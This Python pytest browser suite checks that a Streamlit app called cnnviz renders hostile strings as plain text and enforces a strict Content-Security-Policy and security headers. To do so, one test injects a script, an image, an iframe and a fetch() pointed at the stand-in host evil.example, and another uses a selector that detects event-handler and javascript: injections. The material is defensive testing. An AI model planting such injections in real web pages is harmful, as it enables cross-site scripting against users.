"""Nothing that comes from outside runs or becomes an element of the page; nothing from another server is loaded."""

import contextlib
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from playwright.sync_api import Browser

from cnnviz.data import bring
from cnnviz.ui.headers import headers
from cnnviz.ui.outside import LONGEST, printable
from tests.browser.conftest import PATIENCE, ROOT, Server, Visitor, settle
from tests.hostile import HOSTILE
from tools.serve import free_port

pytestmark = pytest.mark.browser
PAGES = sorted(path.stem for path in (ROOT / "pages").rglob("*.py") if path.stem != "home")
COUNT_ALIEN = """() => ({
  alien: document.querySelectorAll("[src*='evil.example'], [href*='evil.example'], [href^='javascript'], [onerror], [onload], [onfocus], [ontoggle]").length,
  ran: Object.hasOwn(window, "hostile") ? window.hostile : null,
})"""


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    port = free_port()
    log = tmp_path_factory.mktemp("hostile") / "log.txt"
    with log.open("w") as file:
        process = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "streamlit",
                "run",
                "tests/browser/hostile_app.py",
                "--server.headless=true",
                f"--server.port={port}",
            ],
            cwd=ROOT,
            stdout=file,
            stderr=file,
        )
    try:
        end = time.monotonic() + 120
        while True:
            with (
                contextlib.suppress(OSError),
                urllib.request.urlopen(f"http://localhost:{port}/_stcore/health", timeout=2),
            ):
                break
            assert time.monotonic() < end, log.read_text()
            time.sleep(0.1)
        yield f"http://localhost:{port}"
    finally:
        process.terminate()
        process.wait(60)
    assert "Traceback" not in log.read_text()


def test_each_is_shown_letter_by_letter(hostile_app: str, browser: Browser) -> None:
    """In text, headings, tables, boxes, buttons: the letters, and no element more than those that the page itself makes."""
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(hostile_app)
    page.locator(f".st-key-hostile{len(HOSTILE) - 1} [data-testid=stButtonGroup]").wait_for(timeout=PATIENCE)
    settle(page)
    shown = page.evaluate(
        """count => Array.from({ length: count }, (_, number) =>
          [...document.querySelectorAll(`.st-key-hostile${number} [data-testid=stMarkdownContainer], .st-key-hostile${number} [data-testid=stHeadingWithActionElements]`)]
            .map((box) => [[...new Set([...box.querySelectorAll("*")].map((one) => one.tagName.toLowerCase()))], box.textContent.replaceAll("\\u2060", "")]))""",
        len(HOSTILE),
    )
    own = {"p", "strong", "h3", "div", "span", "table", "thead", "tbody", "tr", "th", "td"}
    for text, boxes in zip(HOSTILE, shown, strict=True):
        line = printable(text)
        line = (line if len(line) <= LONGEST else f"{line[: LONGEST - 1]}…").replace("\u2060", "")
        assert len(boxes) >= 8, text
        for tags, letters in boxes:
            assert set(tags) <= own, (text, tags)
            if letters != "Pills":
                assert f"({line})" in letters or f"{line} end".strip() in letters, (text, letters)
    assert page.evaluate(COUNT_ALIEN) == {"alien": 0, "ran": None}
    assert not dialogs
    page.close()


@pytest.mark.parametrize(
    "address",
    [
        "datasets?dataset=own-hostile",
        "training_lab?dataset=own-hostile&knobs=data",
        "faces?people=own-hostile",
    ],
)
def test_classes_of_a_file_of_ones_own(address: str, visitor: Visitor, tmp_path: Path) -> None:
    names = [text for text in HOSTILE if text.strip("\x00 \t\r\n")]
    pixels = np.random.default_rng(0).integers(0, 255, (10 * len(names), 12, 12, 1), dtype=np.uint8)
    np.savez(tmp_path / "images.npz", images=pixels, labels=np.array(names * 10))
    bring(tmp_path / "images.npz", "own-hostile")
    page = visitor.go(address)
    assert page.evaluate(COUNT_ALIEN) == {"alien": 0, "ran": None}


@pytest.mark.thorough(8)
@pytest.mark.parametrize("page", PAGES)
def test_the_policy_stands_in_no_pages_way(page: str, visitor: Visitor) -> None:
    """A violation is an error in the console, and the visitor's console is to be empty."""
    visitor.page.add_init_script(
        "window.violations = []; document.addEventListener('securitypolicyviolation', (one) => window.violations.push(`${one.violatedDirective} ${one.blockedURI}`))"
    )
    visitor.go(page)
    assert visitor.page.evaluate("window.violations") == []


def test_nothing_comes_from_another_server(visitor: Visitor) -> None:
    page = visitor.go("pooling")
    found = page.evaluate(
        """async () => {
          const found = [];
          const heard = new Promise((done) => document.addEventListener("securitypolicyviolation", (one) => {
            found.push(one.effectiveDirective);
            if (found.length === 5) done();
          }));
          document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }));
          document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.example/x.png" }));
          document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" }));
          fetch("https://evil.example/").catch(() => {});
          document.head.append(Object.assign(document.createElement("script"), { textContent: "window.hostile = 1" }));
          await heard;
          try { eval("window.hostile = 2"); } catch { found.push("eval"); }
          return [found.sort().join(), window.hostile ?? null];
        }"""
    )
    visitor.errors.clear()
    assert found == ["connect-src,eval,frame-src,img-src,script-src-elem,script-src-elem", None]


def test_every_answer_carries_the_headers(server: Server) -> None:
    for path in ("", "pooling", "_stcore/health", "cnnviz/live", "static/none.js"):
        try:
            with urllib.request.urlopen(f"{server.url}/{path}") as reply:
                told = dict(reply.headers)
        except urllib.error.HTTPError as error:
            told = dict(error.headers)
        known = {name.lower(): value for name, value in told.items()}
        assert {name.lower(): value for name, value in headers().items()}.items() <= known.items(), path
    policy = headers()["Content-Security-Policy"]
    scripts = next(rule for rule in policy.split("; ") if rule.startswith("script-src"))
    assert "'unsafe-eval'" not in scripts
    assert "'unsafe-inline'" not in scripts
    assert "http" not in policy
